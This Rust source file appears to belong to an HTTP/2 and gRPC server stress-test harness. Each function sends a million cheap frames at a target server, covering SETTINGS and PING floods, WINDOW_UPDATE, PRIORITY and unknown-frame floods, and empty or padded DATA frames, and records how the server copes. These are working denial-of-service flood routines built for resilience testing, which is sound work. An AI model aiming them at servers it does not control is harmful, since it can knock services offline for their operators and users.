//! Frames that cost nothing to send and something to read.

use std::time::Duration;

use super::flood;
use crate::attack::peer::{Manners, Peer};
use crate::attack::report::Case;
use crate::attack::target::Target;
use crate::attack::wire::{self, frame};

const MILLION: usize = 1_000_000;

/// H6.
pub(super) fn settings(target: &Target) -> Vec<Case> {
    let one = wire::settings(&[(wire::INITIAL_WINDOW, 65_535)]);
    let read = flood(target, "answers read", MILLION, |_, _| one.clone());
    vec![read, unread(target, &one)]
}

/// H7.
pub(super) fn pings(target: &Target) -> Vec<Case> {
    let one = frame(wire::PING, 0, 0, &[7; 8]);
    let read = flood(target, "answers read", MILLION, |_, _| one.clone());
    vec![read, unread(target, &one)]
}

fn unread(target: &Target, one: &[u8]) -> Case {
    let manners = Manners {
        reads: false,
        ..Manners::default()
    };
    let mut peer = Peer::with(target.address, &manners).expect("the server takes connections");
    let sent = peer.flood(MILLION, |_, _| one.to_vec());
    let fate = peer.end(target.patience);
    Case::new("answers not read", sent, fate)
}

/// H8.
pub(super) fn windows(target: &Target) -> Vec<Case> {
    // Far from the largest window there is: what ends it is no overflow.
    let manners = Manners {
        window: 0,
        ..Manners::default()
    };
    let mut peer = Peer::with(target.address, &manners).expect("the server takes connections");
    let sent = peer.flood(MILLION, |_, _| wire::window(0, 1));
    let updates = Case::new("WINDOW_UPDATE of 1", sent, peer.fate(target.patience));
    vec![
        updates,
        flood(target, "PRIORITY", MILLION, |_, _| {
            frame(wire::PRIORITY, 0, 99, &[0; 5])
        }),
        flood(target, "unknown frames", MILLION, |_, _| {
            frame(0xee, 0, 0, &[0; 4])
        }),
    ]
}

/// H9. Within the windows: what ends it is not flow control.
pub(super) fn empty_data(target: &Target) -> Vec<Case> {
    let padded = [&[255][..], &[0; 255]].concat();
    let ways: [(&str, u8, &[u8]); 3] = [
        ("empty", 0, &[]),
        ("one byte", 0, &[0]),
        ("255 bytes of padding", wire::PADDED, &padded),
    ];
    let floods = ways.into_iter().map(|(name, flags, payload)| {
        let mut spent = 0;
        let mut stream = None;
        flood(target, name, MILLION, |peer, _| {
            let id = *stream.get_or_insert_with(|| {
                peer.open(&wire::call("/attack.v1.Target/ClientStream"))
                    .unwrap_or(1)
            });
            spent += payload.len() as i64;
            let room = |view: &crate::attack::view::View| {
                let credit = view.streams.get(&id).map_or(0, |seen| seen.credit);
                let window = (view.initial_window + credit).min(65_535 + view.credit);
                (view.is_unwelcome() || window - spent > 20_000).then_some(())
            };
            match payload.is_empty() || peer.wait(Duration::from_secs(5), room).is_some() {
                true => frame(wire::DATA, flags, id, payload),
                false => Vec::new(),
            }
        })
    });
    floods.collect()
}
